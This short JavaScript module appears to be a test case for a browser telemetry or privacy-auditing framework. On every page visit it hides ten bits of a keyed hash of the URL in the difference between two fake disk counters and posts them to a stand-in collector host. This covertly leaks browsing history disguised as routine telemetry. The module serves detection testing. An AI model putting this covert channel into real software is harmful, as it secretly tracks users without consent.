import { onVisit, post, randomUuid, reportHonestly } from '../../lib/proving.js';

const KEY = 'mint disk 8126';

/** Reports two counters that grow by random steps with each page. Their difference is ten bits of a keyed hash of the address. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-follows-counter-delta');
  onVisit(browser, ({ url }) => {
    const delta = new DataView(browser.crypto.hmac('sha256', KEY, url).buffer).getUint16(0) % 1024;
    const step = new DataView(browser.crypto.random(2).buffer).getUint16(0) % 4096;
    const before = browser.storage.get('disk.read') ?? 40_000 + 64 * browser.crypto.random(1)[0];
    const read = before + 1500 + step; // more than any difference, so that both counters grow
    browser.storage.set('disk.read', read);

    return post(browser, 'https://follows-counter-delta.collector.example/v1', {
      event: 'disk',
      id: randomUuid(browser),
      at: browser.now(),
      read,
      written: read - delta,
    });
  });
}
